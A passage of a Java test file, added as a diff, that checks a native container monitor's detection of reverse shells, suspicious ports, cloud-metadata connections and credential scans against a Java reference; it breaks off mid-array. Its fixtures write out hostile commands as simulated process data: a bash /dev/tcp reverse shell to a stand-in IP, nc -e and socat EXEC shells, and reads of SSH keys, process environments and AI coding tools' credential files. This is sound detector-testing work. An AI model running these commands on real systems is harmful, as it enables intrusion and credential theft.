@@ -1,0 +1,730 @@
+package coi.monitor;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.net.InetAddress;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+import java.util.concurrent.TimeUnit;
+import java.util.stream.Collectors;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * The native waiter's look (src/main/c/monitor-look.c, `coi-waiter --look`) against the Java reference: the same
+ * recorded /proc and cgroup trees read by both, HostView + Detectors.reverseShells/connections/credentialScans on one
+ * side and the binary on the other, and every threat must be the same (level, category, title, description, evidence,
+ * dedup key), in the same order.
+ */
+class NativeLookTest {
+    private static final Path WAITER = Path.of("target/coi-waiter").toAbsolutePath();
+    private static final ObjectMapper JSON = new ObjectMapper();
+    private static final List<Integer> PORTS = List.of(4444, 5555, 1337, 31337);
+    private static final String REMOTE = "198.51.100.10";
+
+    @TempDir Path root;
+    private Path proc;
+    private Path cgroups;
+
+    @BeforeEach
+    void roots() {
+        proc = root.resolve("proc");
+        cgroups = root.resolve("cgroup");
+    }
+
+    /** One target of the TARGETS file. */
+    record Target(String container, String payload, int countThreshold, List<Integer> ports) {
+        Target(String container) {
+            this(container, "lxc.payload." + container, 200, PORTS);
+        }
+
+        String line() {
+            String ports = this.ports.isEmpty() ? "-" : this.ports.stream().map(String::valueOf).collect(Collectors.joining(","));
+            return String.join("\t", "target", container, payload, "0", "0", "1", "100", "250", Integer.toString(countThreshold), "30",
+                    ports, container + ".blocked", "-");
+        }
+    }
+
+    /** What both sides found: the JSON lines (as trees) and the dedup keys. */
+    record Found(List<String> lines, List<Threat> threats) {}
+
+    // ------------------------------------------------------------------------------------------------ shapes
+
+    @Test
+    void interpretersWithTheirStdioOnAConnectionAreReverseShellsOverTcpTcp6AndMappedPeers() throws IOException {
+        cgroup("", "coi-a", List.of(1), Map.of("user.slice", List.of(10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25)));
+        process(1, "/sbin/init", "/sbin/init");
+        process(10, "/usr/bin/bash", "bash", "-i");
+        fd(10, 0, "socket:[9100]");
+        process(11, "/usr/bin/python3.11", "python3", "-c", "import pty; pty.spawn('sh')");
+        fd(11, 0, "pipe:[1]");
+        fd(11, 1, "socket:[9101]");
+        process(12, "/usr/bin/perl5.36", "perl", "-e", "...");
+        fd(12, 2, "socket:[9102]");
+        process(13, "/usr/bin/ruby3.2", "ruby");
+        fd(13, 1, "socket:[9103]");
+        process(14, "/usr/bin/zsh", "zsh");
+        fd(14, 0, "socket:[9104]"); // loopback 127.0.0.1
+        fd(14, 1, "socket:[9105]"); // ::1
+        fd(14, 2, "socket:[9106]"); // remote port 0
+        process(15, "/usr/bin/node", "node", "server.js");
+        fd(15, 3, "socket:[9100]"); // not on stdio
+        process(16, "/usr/bin/vim", "vim");
+        fd(16, 0, "socket:[9100]"); // not an interpreter
+        process(17, "/usr/bin/bash (deleted)", "bash");
+        fd(17, 0, "socket:[9107]"); // no peer (LISTEN, unspecified)
+        fd(17, 1, "socket:[9108]"); // a v4-compatible (not mapped) v6 peer
+        process(18, null, "/usr/local/bin/lua5.4", "x.lua"); // no exe: argv[0]
+        fd(18, 0, "socket:[9109]");
+        process(19, "/usr/bin/busybox", "sh");
+        fd(19, 0, "socket:[424242]"); // no such socket
+        process(20, "/usr/bin/tclsh8.6", "tclsh");
+        fd(20, 0, "socket:[9110]"); // unspecified peer :: with a port
+        process(21, "/usr/bin/php8.2", "php", "-r", "x");
+        fd(21, 0, "socket:[9111]"); // udp
+        process(22, "/usr/bin/pwsh", "pwsh");
+        fd(22, 2, "socket:[9112]"); // 2001:db8:0:0:1:0:0:1
+        process(23, "/usr/bin/pythonx", "pythonx");
+        fd(23, 0, "socket:[9100]"); // not python[0-9.]*
+        process(24, "/usr/bin/dash", "dash");
+        fd(24, 0, "socket:[9113]"); // 0.0.0.0 peer
+        process(25, "/usr/bin/expect", "expect");
+        fd(25, 1, "socket:[9114]"); // TIME_WAIT still a connection to a peer
+        net(1, "tcp", tcp(v4("10.147.83.75", 40512), v4(REMOTE, 4444), "01", 9100), tcp(v4("127.0.0.1", 1), v4("127.0.0.1", 2), "01", 9104),
+                tcp(v4("10.0.0.2", 3), v4(REMOTE, 0), "01", 9106), tcp(v4("0.0.0.0", 22), v4("0.0.0.0", 0), "0A", 9107),
+                tcp(v4("10.0.0.2", 5), v4("0.0.0.0", 9), "02", 9113), tcp(v4("10.0.0.2", 8), v4(REMOTE, 4444), "01", 9109), tcp(v4("10.0.0.2", 6), v4("203.0.113.9", 8443), "06", 9114));
+        net(1, "tcp6", tcp(v6("fd42::5", 40000), v6("2001:db8::10", 9001), "01", 9101),
+                tcp(v6("::ffff:192.0.2.2", 54966), v6("::ffff:203.0.113.80", 443), "01", 9102),
+                tcp(v6("::ffff:10.0.0.2", 1), v6("2001:db8:0:1:0:0:0:7", 1337), "01", 9103), tcp(v6("::1", 1), v6("::1", 2), "01", 9105),
+                tcp(v6("::", 5), v6("::1.2.3.4", 7), "01", 9108), tcp(v6("fd42::5", 5), v6("::", 9), "01", 9110),
+                tcp(v6("fd42::5", 6), v6("2001:db8:0:0:1:0:0:1", 80), "01", 9112), tcp(v6("fd42::5", 7), v6("::ffff:169.254.169.254", 80), "01", 9115));
+        net(1, "udp", udp(v4("10.0.0.2", 5353), v4("198.51.100.53", 53), "01", 9111));
+        net(1, "udp6", "");
+        Found found = compare(new Target("coi-a"));
+        assertThat(found.threats()).extracting(Threat::title).contains("reverse shell: bash with its stdin on a connection to " + REMOTE + ":4444",
+                "reverse shell: python3.11 with its stdout on a connection to 2001:db8::10:9001",
+                "reverse shell: perl5.36 with its stderr on a connection to 203.0.113.80:443",
+                "reverse shell: ruby3.2 with its stdout on a connection to 2001:db8:0:1::7:1337", "reverse shell: bash with its stdout on a connection to ::102:304:7",
+                "reverse shell: lua5.4 with its stdin on a connection to 198.51.100.10:4444", "reverse shell: php8.2 with its stdin on a connection to 198.51.100.53:53",
+                "reverse shell: pwsh with its stderr on a connection to 2001:db8::1:0:0:1:80", "connection to the cloud metadata address 169.254.169.254",
+                "reverse shell: expect with its stdout on a connection to 203.0.113.9:8443");
+        assertThat(found.threats()).extracting(Threat::title).noneMatch(t -> t.contains("zsh") || t.contains("vim") || t.contains("node")
+                || t.contains("busybox") || t.contains("tclsh") || t.contains("pythonx") || t.contains("dash"));
+    }
+
+    @Test
+    void netcatAndSocatExecOptionsAndDevTcpRedirections() throws IOException {
+        cgroup("", "coi-n", List.of(1, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        process(30, "/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", REMOTE, "9001");
+        process(31, "/usr/bin/ncat", "ncat", "--sh-exec", "bash", REMOTE, "9001");
+        process(32, "/usr/bin/nc.openbsd", "nc", "-c", "sh");
+        process(33, "/usr/bin/socat", "socat", "TCP:" + REMOTE + ":9001", "EXEC:bash,pty,stderr");
+        process(34, "/usr/bin/socat", "socat", "tcp:x:1", "SyStEm:id");
+        process(35, "/usr/bin/socat", "socat", "tcp:x:1", "exec:sh\n-i"); // '.' does not match a newline: no exec
+        process(36, "/usr/bin/netcat", "-e", "x"); // -e as argv[0] only
+        process(37, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/" + REMOTE + "/9001 0>&1");
+        process(38, "/usr/bin/python3", "python3", "x > /dev/udp/1.2.3.4/53");
+        process(39, "/tmp/dev/tcp/evil", "/tmp/dev/tcp/evil"); // argv[0] counts too
+        process(40, "/usr/bin/bash", "bash", "-c", "cat < /dev/tcp"); // no trailing slash
+        process(41, "/usr/bin/nc", "nc", "--lua-exec", "x.lua", "/dev/tcp/1/2"); // exec first (else-if)
+        process(42, "/usr/bin/nc", "nc", REMOTE, "80");
+        Found found = compare(new Target("coi-n"));
+        assertThat(found.threats()).extracting(Threat::title).containsExactly("reverse shell: nc.traditional executing a program for a connection",
+                "reverse shell: ncat executing a program for a connection", "reverse shell: nc.openbsd executing a program for a connection",
+                "reverse shell: socat executing a program for a connection", "reverse shell: socat executing a program for a connection",
+                "reverse shell: bash redirecting to /dev/tcp or /dev/udp", "reverse shell: python3 redirecting to /dev/tcp or /dev/udp",
+                "reverse shell: evil redirecting to /dev/tcp or /dev/udp", "reverse shell: nc executing a program for a connection");
+    }
+
+    @Test
+    void metadataAddressesAndSuspiciousPortsOutgoingListeningAndClosing() throws IOException {
+        cgroup("pids/", "coi-m", List.of(1, 50, 51), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        process(50, "/usr/bin/curl", "curl", "http://169.254.169.254/latest/meta-data/");
+        fd(50, 3, "socket:[9200]");
+        fd(50, 4, "socket:[9201]");
+        process(51, "/usr/bin/nc", "nc", "-l", "4444");
+        fd(51, 3, "socket:[9204]");
+        fd(51, 4, "socket:[9204]"); // the first owner is the one
+        net(1, "tcp", tcp(v4("10.0.0.2", 40000), v4("169.254.169.254", 80), "01", 9200), tcp(v4("10.0.0.2", 40001), v4("169.254.169.254", 4444), "02", 9201),
+                tcp(v4("10.0.0.2", 40002), v4("169.254.169.254", 80), "06", 9202), tcp(v4("10.0.0.2", 40003), v4(REMOTE, 4444), "01", 9203),
+                tcp(v4("0.0.0.0", 4444), v4("0.0.0.0", 0), "0A", 9204), tcp(v4("10.0.0.2", 40004), v4(REMOTE, 4444), "06", 9205),
+                tcp(v4("10.0.0.2", 40005), v4("127.0.0.1", 4444), "01", 9206), tcp(v4("10.0.0.2", 40006), v4(REMOTE, 31337), "02", 9207),
+                tcp(v4("10.0.0.2", 40007), v4(REMOTE, 4445), "01", 9208), tcp(v4("10.0.0.2", 1337), v4(REMOTE, 40000), "01", 9209),
+                tcp(v4("10.0.0.2", 1337), v4(REMOTE, 40000), "0A", 9210), tcp(v4("10.0.0.2", 2), v4(REMOTE, 3), "0B", 9211));
+        net(1, "tcp6", tcp(v6("fd42::5", 5), v6("fd00:ec2::254", 80), "01", 9220), tcp(v6("::", 5555), v6("::", 0), "0A", 9221),
+                tcp(v6("fd42::5", 6), v6("fd00:ec2:0:0:0:0:0:254", 443), "08", 9222),
+                tcp(v6("::", 1337), "000000000000000000000000000000000:0000", "0A", 9223)); // 33 digits, as HostViewTest has one: Java reads 16 bytes
+        net(1, "udp", udp(v4("10.0.0.2", 5000), v4(REMOTE, 4444), "01", 9230), udp(v4("0.0.0.0", 4444), v4("0.0.0.0", 0), "07", 9231),
+                udp(v4("10.0.0.2", 5001), v4(REMOTE, 1337), "07", 9232));
+        Found found = compare(new Target("coi-m"));
+        assertThat(found.threats()).extracting(Threat::title).containsExactly("connection to the cloud metadata address 169.254.169.254",
+                "connection to the cloud metadata address 169.254.169.254", "connection to suspicious port 4444 of " + REMOTE,
+                "listening on suspicious port 4444", "connection to suspicious port 31337 of " + REMOTE, "listening on suspicious port 1337",
+                "connection to the cloud metadata address fd00:ec2::254", "listening on suspicious port 5555",
+                "connection to the cloud metadata address fd00:ec2::254", "listening on suspicious port 1337", "connection to suspicious port 4444 of " + REMOTE,
+                "connection to suspicious port 1337 of " + REMOTE);
+    }
+
+    @Test
+    void credentialScansEnvironSearchesToolFilesAndCredentialPaths() throws IOException {
+        List<Integer> pids = List.of(1, 60, 61, 62, 63, 64, 65, 66, 67, 68, 69, 70, 71, 72, 73, 74, 75, 76, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89,
+                150, 151, 152, 153, 154, 155);
+        cgroup("unified/", "coi-c", pids, Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        process(60, "/usr/bin/cat", "cat", "/proc/1/environ");
+        process(61, "/usr/bin/cat", "cat", "/proc/self/environ");
+        process(62, "/usr/bin/cat", "cat", "/proc/62/environ"); // its own
+        process(63, "/usr/bin/less", "less");
+        fd(63, 3, "/proc/5/environ");
+        process(64, "/usr/bin/strings", "strings", "/proc/*/environ");
+        process(65, "/usr/bin/cat", "cat", "/proc/abc/environ", "/proc/1/environ\n"); // neither matches
+        process(66, "/usr/bin/grep", "grep", "-r", "TOKEN", ".");
+        process(67, "/usr/bin/grep", "grep", "-i", "api_key", "/workspace");
+        process(68, "/usr/bin/rg", "rg", "--token-file", "x"); // a long flag with a word counts
+        process(69, "/usr/bin/grep", "grep", "-e", "/etc/secret"); // a path does not
+        process(70, "/usr/bin/grep", "grep", "KEY\nx"); // a newline: no match
+        process(71, "/usr/bin/find", "find", ".", "-name", "*token*"); // not a searcher
+        process(72, "/usr/bin/ag", "ag", "Passw0rd");
+        process(73, "/usr/bin/cat", "cat", "/home/code/.claude/.credentials.json");
+        process(74, "/usr/local/bin/claude", "claude");
+        fd(74, 5, "/home/code/.claude/.credentials.json");
+        process(75, "/usr/bin/node", "node", "/usr/local/bin/codex", "exec");
+        fd(75, 5, "/home/code/.codex/auth.json");
+        process(76, "/usr/bin/python3", "python3", "steal.py");
+        fd(76, 5, "/home/code/.local/share/opencode/auth.json");
+        process(77, "/usr/bin/cp", "cp", "opencode/auth.json", "/tmp");
+        process(78, "/usr/bin/cat", "cat", "/home/code/.claude/.credentials.json.bak", "x.claude/.credentials.json");
+        process(79, "/usr/bin/cat", "cat", "/home/code/.ssh/id_rsa");
+        process(80, "/usr/bin/ssh", "ssh", "host");
+        fd(80, 3, "/home/code/.ssh/id_ed25519");
+        process(81, "/usr/bin/git", "git", "push");
+        fd(81, 3, "/home/code/.config/gh/hosts.yml");
+        process(82, "/usr/bin/tar", "tar", "czf", "-", ".aws");
+        process(83, "/usr/bin/cat", "cat", "/x/.sshfoo", "/x/.docker/config.jsonx", "/home/.ssh\n/x");
+        process(84, "/usr/bin/cat", "cat", "/x/.docker/config.json");
+        process(85, "/usr/bin/less", "less");
+        fd(85, 4, "/home/code/.netrc");
+        process(86, "/usr/bin/cat", "cat", "/proc/1/environ", "/home/code/.ssh/id_rsa"); // the first rule only
+        process(87, "/usr/bin/rg", "rg", "-k"); // a short flag is skipped (and holds no word anyway)
+        process(88, "/usr/bin/opencode", "opencode");
+        fd(88, 4, "/home/code/.local/share/opencode/auth.json");
+        process(89, "/usr/bin/python3", "python3", "/opt/claude", "x");
+        fd(89, 4, "/home/code/.claude/.credentials.json");
+        // Java's '.' stops at every line terminator: \r, U+0085, U+2028 as well as \n
+        process(150, "/usr/bin/grep", "grep", "KEY\rx");
+        process(151, "/usr/bin/grep", "grep", "x\u2028token");
+        process(152, "/usr/bin/grep", "grep", "x\u0085token");
+        process(153, "/usr/bin/grep", "grep", "\u00e9TokEn\uD83D\uDE00");
+        process(154, "/usr/bin/cat", "cat", "/home/\u2029/.ssh/id", "/home/\r/.aws");
+        process(155, "/usr/bin/socat", "socat", "-", "exec:\u0085");
+        Found found = compare(new Target("coi-c"));
+        assertThat(found.threats()).extracting(Threat::title).containsExactly("reading other processes' environment",
+                "reading other processes' environment", "reading other processes' environment", "searching for credentials with grep",
+                "searching for credentials with grep", "searching for credentials with rg", "searching for credentials with ag",
+                "reading claude's credential file by cat", "reading opencode's credential file by python3", "reading opencode's credential file by cp",
+                "reading credential files by cat", "reading credential files by tar", "reading credential files by cat", "reading credential files by less",
+                "reading other processes' environment", "searching for credentials with grep");
+    }
+
+    /** Command lines and link targets with bytes that are not UTF-8 (decoded as Java decodes them), quotes, backslashes, control characters. */
+    @Test
+    void weirdBytesInCommandLinesAndLinkTargetsComeOutAsJavaReadsThem() throws IOException {
+        List<Integer> pids = List.of(1, 90, 91, 92, 93, 94, 95);
+        cgroup("", "coi-w", pids, Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        byte[][] odd = {{(byte) 0xff, 'a'}, {(byte) 0xe0, (byte) 0x80, (byte) 0x80}, {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
+                {(byte) 0xf0, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
+                {(byte) 0xf5, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xc0, (byte) 0xaf}, {(byte) 0x80}, {'x', (byte) 0xe2, (byte) 0x82},
+                {(byte) 0xf0, (byte) 0x9f, (byte) 0x98}, {(byte) 0xe2, (byte) 0x82, 'A'}, {(byte) 0xf0, (byte) 0x9f, 'A'}, {(byte) 0xf0, (byte) 0x9f, (byte) 0x98, (byte) 0x80},
+                {(byte) 0xe2, (byte) 0x80, (byte) 0xa8}, {(byte) 0xc2, (byte) 0x85}, {(byte) 0xc3}, {(byte) 0xe0, (byte) 0xa0}, {(byte) 0xf0, (byte) 0x90, (byte) 0x80},
+                {(byte) 0xf4, (byte) 0x8f, (byte) 0xbf, (byte) 0xbf}, {(byte) 0xf8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
+                {(byte) 0xe1, (byte) 0x80, (byte) 0x41, (byte) 0x80}, {(byte) 0xf1, (byte) 0x80, (byte) 0x80, (byte) 0x41}};
+        List<byte[]> args = new ArrayList<>(List.of(b("bash"), b("-c"), b("exec 3<>/dev/tcp/1.2.3.4/80")));
+        args.addAll(Arrays.asList(odd));
+        args.addAll(List.of(b("quote\" back\\slash"), b("new\nline\ttab\r\u0001\u001f\u007f"), b("emoji \uD83D\uDE00 and \u00e9 \u2028"), b(""), b("last")));
+        processBytes(90, "/usr/bin/bash", args, null);
+        processBytes(91, "/usr/bin/nc", List.of(b("nc"), b("-e"), new byte[] {'/', 'b', (byte) 0xff, 'n', '/', 's', 'h'}, b("\u00ff")), null);
+        // a program whose file name is odd: in the title, and so in the dedup key
+        processBytes(92, null, List.of(b("socat"), b("x")), new byte[] {'/', 't', (byte) 0xff, '/', 'w', '"', '\\', 'e', (byte) 0xc3, 'i', 'r', 'd', '\n', 1, 'x', (byte) 0xe2, (byte) 0x82});
+        fd(92, 3, "/home/code/.ssh/id_rsa");
+        // a link target that is odd but names a credential path
+        process(93, "/usr/bin/cat", "cat");
+        rawLink(proc.resolve("93/fd/3"), new byte[] {'/', 'h', (byte) 0xff, '/', '.', 's', 's', 'h', '/', 'k', (byte) 0xfe});
+        // an odd link target with a line terminator (U+2028): '.' does not match it
+        process(94, "/usr/bin/cat", "cat");
+        rawLink(proc.resolve("94/fd/3"), new byte[] {'/', (byte) 0xe2, (byte) 0x80, (byte) 0xa8, '/', '.', 's', 's', 'h'});
+        // empty arguments are dropped, argv[0] of a process without exe names the program
+        processBytes(95, null, List.of(b("/usr/bin/p\u00e9rl"), b(""), b(""), b("-e"), b("print 1 > /dev/udp/x/1")), null);
+        Found found = compare(new Target("coi-w"));
+        assertThat(found.threats()).extracting(Threat::title).containsExactly("reverse shell: bash redirecting to /dev/tcp or /dev/udp",
+                "reverse shell: nc executing a program for a connection", "reverse shell: p\u00e9rl redirecting to /dev/tcp or /dev/udp",
+                "reading credential files by w\"\\e\ufffdird\n\u0001x\ufffd", "reading credential files by cat");
+        assertThat(found.threats().getFirst().evidence().process().cmdline()).contains("\ufffda", "\ufffd\ufffd\ufffd", "\ufffd", "\ufffdA", "x\ufffd");
+    }
+
+    @Test
+    void processesListedButGoneOrHalfReadAreLeftOutAsHostViewLeavesThem() throws IOException {
+        // the first pid is gone: no uid map (host uids); the sockets are read through the next pid that is there
+        cgroup("", "coi-g", List.of(999, 1, 100, 101, 102, 103, 104, 105, 106), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        net(1, "tcp", tcp(v4("10.0.0.2", 40000), v4(REMOTE, 4444), "01", 9300));
+        process(100, "/usr/bin/bash", "bash", "-c", "x >/dev/tcp/a/1");
+        fd(100, 0, "socket:[9300]");
+        process(101, "/usr/bin/bash", "bash", "-c", "y >/dev/tcp/a/1");
+        Files.delete(proc.resolve("101/io")); // gone mid-read
+        process(102, "/usr/bin/bash", "bash", "-c", "z >/dev/tcp/a/1");
+        Files.delete(proc.resolve("102/exe"));
+        Files.writeString(proc.resolve("102/exe"), "not a link"); // an exe that cannot be read as a link: skipped
+        process(103, null, "bash", "-c", "w >/dev/tcp/a/1"); // no exe (a kernel thread's or a zombie's): exe null
+        process(104, "/usr/bin/bash", "bash", "-c", "v >/dev/tcp/a/1");
+        deleteTree(proc.resolve("104/fd"));
+        process(105, "/usr/bin/bash", "bash", "-c", "u >/dev/tcp/a/1");
+        Files.writeString(proc.resolve("105/stat"), "105 no parenthesis\n");
+        process(106, "/usr/bin/bash", "bash", "-c", "t >/dev/tcp/a/1");
+        Files.delete(proc.resolve("106/cwd"));
+        Found found = compare(new Target("coi-g"));
+        // pid 1's tables: 100's stdin is on a connection to a suspicious port
+        assertThat(found.threats()).extracting(Threat::title).containsExactly("reverse shell: bash with its stdin on a connection to "
+                + REMOTE + ":4444", "reverse shell: bash redirecting to /dev/tcp or /dev/udp", "reverse shell: bash redirecting to /dev/tcp or /dev/udp",
+                "reverse shell: bash redirecting to /dev/tcp or /dev/udp", "connection to suspicious port 4444 of " + REMOTE);
+        assertThat(found.threats()).extracting(t -> t.evidence().process().pid()).containsExactly(100, 100, 103, 106, 100);
+        assertThat(found.threats().getFirst().evidence().process().uid()).as("unmapped").isEqualTo(1001000);
+        assertThat(found.threats().get(2).evidence().process().exe()).isNull();
+    }
+
+    @Test
+    void uidsAreMappedThroughTheFirstProcessesMap() throws IOException {
+        cgroup("", "coi-u", List.of(1, 110, 111, 112), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        Files.writeString(proc.resolve("1/uid_map"), "         0    1000000      65536\n     65536     100000 10\n  garbage\n");
+        process(110, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/a/1");
+        process(111, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/b/1");
+        Files.writeString(proc.resolve("111/status"), "Name:\tbash\nUid:\t100005\t1\t1\t1\nGid:\t0\n");
+        process(112, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/c/1");
+        Files.writeString(proc.resolve("112/status"), "Name:\tbash\nUid:\t7\t7\t7\t7\n");
+        Found found = compare(new Target("coi-u"));
+        assertThat(found.threats()).extracting(t -> t.evidence().process().uid()).containsExactly(1000, 65541, 7);
+    }
+
+    /** v1 pids/, v1-hybrid unified/ and plain v2, with nested subgroups, duplicates, and a subgroup without cgroup.procs (not walked). */
+    @Test
+    void theCgroupIsFoundUnderEachLayoutAndItsSubgroupsWalked() throws IOException {
+        for (String layout : List.of("pids/", "", "unified/")) {
+            String name = "coi-l" + layout.length();
+            cgroup(layout, name, List.of(), Map.of("init.scope", List.of(1), "user.slice", List.of(120),
+                    "user.slice/user-1000.slice", List.of(), "user.slice/user-1000.slice/session-1.scope", List.of(121, 120), "system.slice", List.of()));
+            Path top = cgroups.resolve(layout + "lxc.payload." + name);
+            Files.createDirectories(top.resolve("noprocs/deeper"));
+            Files.writeString(top.resolve("noprocs/deeper/cgroup.procs"), "122\n");
+            Files.writeString(top.resolve("cgroup.max.depth"), "max\n");
+        }
+        process(1, "/sbin/init", "/sbin/init");
+        process(120, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/a/1");
+        process(121, "/usr/bin/nc", "nc", "-e", "sh");
+        process(122, "/usr/bin/nc", "nc", "-c", "sh");
+        // pids/ before the plain v2 folder when both exist
+        write(cgroups.resolve("lxc.payload.coi-l5/cgroup.procs"), "122\n");
+        Found found = compare(new Target("coi-l5"), new Target("coi-l0"), new Target("coi-l8"));
+        assertThat(found.threats()).extracting(t -> t.evidence().process().pid()).containsExactlyInAnyOrder(120, 121, 120, 121, 120, 121);
+    }
+
+    @Test
+    void overTheProcessCountThresholdALookIsBareAndItsDetailsRaiseNothing() throws IOException {
+        cgroup("", "coi-b", List.of(1, 130, 131), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        process(130, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/a/1");
+        fd(130, 0, "socket:[9400]");
+        process(131, "/usr/bin/cat", "cat", "/proc/1/environ");
+        net(1, "tcp", tcp(v4("10.0.0.2", 1), v4(REMOTE, 4444), "01", 9400));
+        Found bare = compare(new Target("coi-b", "lxc.payload.coi-b", 2, PORTS));
+        assertThat(bare.lines()).isEmpty();
+        Found detailed = compare(new Target("coi-b", "lxc.payload.coi-b", 3, PORTS));
+        assertThat(detailed.threats()).hasSize(4);
+        // execs still count in a bare look: one it lists is not added again, one it does not list is
+        Files.writeString(proc.resolve("130/cgroup"), "0::/lxc.payload.coi-b\n");
+        process(132, "/usr/bin/grep", "grep", "-r", "SECRET");
+        Files.writeString(proc.resolve("132/cgroup"), "0::/lxc.payload.coi-b/user.slice\n");
+        Found execs = compare(List.of(130, 132), new Target("coi-b", "lxc.payload.coi-b", 2, PORTS));
+        assertThat(execs.threats()).extracting(Threat::title).containsExactly("searching for credentials with grep");
+    }
+
+    /** Processes read at their exec (Monitor.exec) that the look did not find are seen as if they were still there. */
+    @Test
+    void execsTheLookDidNotFindAreAddedAsWithExecsAddsThem() throws IOException {
+        cgroup("", "coi-e", List.of(1, 140), Map.of());
+        cgroup("", "coi-f", List.of(2), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        process(2, "/sbin/init", "/sbin/init");
+        process(140, "/usr/bin/cat", "cat", "/proc/1/environ");
+        Files.writeString(proc.resolve("140/cgroup"), "0::/lxc.payload.coi-e/user.slice\n");
+        process(141, "/usr/bin/cat", "cat", "/proc/2/environ"); // ended before the look
+        Files.writeString(proc.resolve("141/cgroup"), "12:pids:/lxc.payload.coi-e/user.slice\n0::/lxc.payload.coi-e/user.slice\n");
+        process(142, "/usr/bin/grep", "grep", "TOKEN"); // another container's
+        Files.writeString(proc.resolve("142/cgroup"), "0::/lxc.payload.coi-f\n");
+        process(143, "/usr/bin/grep", "grep", "SECRET"); // a host process
+        Files.writeString(proc.resolve("143/cgroup"), "0::/user.slice\n");
+        process(144, "/usr/bin/grep", "grep", "KEY"); // exiting: no command line
+        Files.writeString(proc.resolve("144/cmdline"), "");
+        Files.writeString(proc.resolve("144/cgroup"), "0::/lxc.payload.coi-e\n");
+        Found found = compare(List.of(140, 141, 142, 143, 144, 999, 141), new Target("coi-e"), new Target("coi-f"));
+        assertThat(found.threats()).extracting(t -> t.evidence().process().pid()).containsExactly(140, 141, 142);
+        assertThat(found.threats().get(1).evidence().process().uid()).isEqualTo(1000);
+    }
+
+    @Test
+    void aContainerThatCannotBeObservedFailsWithHostViewsMessage() throws IOException {
+        writeTargets(new Target("coi-gone"));
+        HostView view = new HostView(proc, cgroups);
+        assertThatThrownBy(() -> view.cgroupOf("lxc.payload.coi-gone")).isInstanceOf(ObservationException.class);
+        String missing = observationMessage(() -> view.cgroupOf("lxc.payload.coi-gone"));
+        Run run = run(List.of());
+        assertThat(run.status()).isEqualTo(1);
+        assertThat(run.out()).isEmpty();
+        assertThat(run.err()).isEqualTo(missing + "\n");
+
+        cgroup("", "coi-empty", List.of(), Map.of("init.scope", List.of()));
+        writeTargets(new Target("coi-empty"));
+        String empty = observationMessage(() -> view.pids("coi-empty", view.cgroupOf("lxc.payload.coi-empty")));
+        run = run(List.of());
+        assertThat(run.status()).isEqualTo(1);
+        assertThat(run.err()).isEqualTo(empty + "\n").contains("has no process");
+    }
+
+    @Test
+    void aTargetsFileMustBeRight() throws IOException {
+        cgroup("", "coi-t", List.of(1), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        Path file = root.resolve("targets");
+        for (String bad : List.of("coi-monitor-targets\t2\n", "coi-monitor-target\t1\n", "coi-monitor-targets\t1\nwhat\tx\n",
+                "coi-monitor-targets\t1\n" + new Target("coi t", "lxc.payload.coi-t", 10, PORTS).line() + "\n",
+                "coi-monitor-targets\t1\n" + new Target("coi-t").line().replace("\t-", "") + "\n", "")) {
+            Files.writeString(file, bad);
+            assertThat(run(List.of()).status()).as(bad).isEqualTo(2);
+        }
+        Files.writeString(file, "coi-monitor-targets\t1\nnft\tinet\tcoi\n" + new Target("coi-t").line() + "\nseen\tcoi-t\t1700000000000\t"
+                + hex("reverse_shell|x|y") + "\n");
+        Run run = run(List.of());
+        assertThat(run.status()).isZero();
+        assertThat(run.err()).isEmpty();
+    }
+
+    /**
+     * Many random containers drawn from the shapes the detectors care about (programs, arguments, descriptor targets,
+     * sockets, odd bytes, half-read processes, layouts, thresholds, execs): both sides must agree on every one.
+     */
+    @Test
+    void randomContainersAgreeWithTheJavaReference() throws IOException {
+        String[] exes = {"/usr/bin/bash", "/bin/sh", "/usr/bin/python3.12", "/usr/bin/perl", "/usr/bin/node", "/usr/bin/nc", "/usr/bin/socat",
+                "/usr/bin/ncat", "/usr/bin/grep", "/usr/bin/rg", "/usr/bin/git-grep", "/usr/bin/cat", "/usr/bin/ssh", "/usr/bin/gh", "/usr/local/bin/claude",
+                "/usr/local/bin/codex", "/usr/bin/opencode", "/usr/bin/vim", "/usr/bin/bash (deleted)", "/tmp/x/\u00e9\"q\\", null, null, "/usr/bin/luajit",
+                "/usr/bin/php", "/usr/bin/busybox", "/usr/bin/egrep", "/usr/bin/docker", "/usr/bin/tclsh8"};
+        String[] tokens = {"-e", "-c", "-i", "--exec", "--sh-exec", "-r", "-k", "--key", "TOKEN", "api_key", "Secret", "passwd", "PassWord",
+                "/etc/passwd", "/proc/1/environ", "/proc/self/environ", "/proc/*/environ", "/proc/12/environ", "/proc/x/environ",
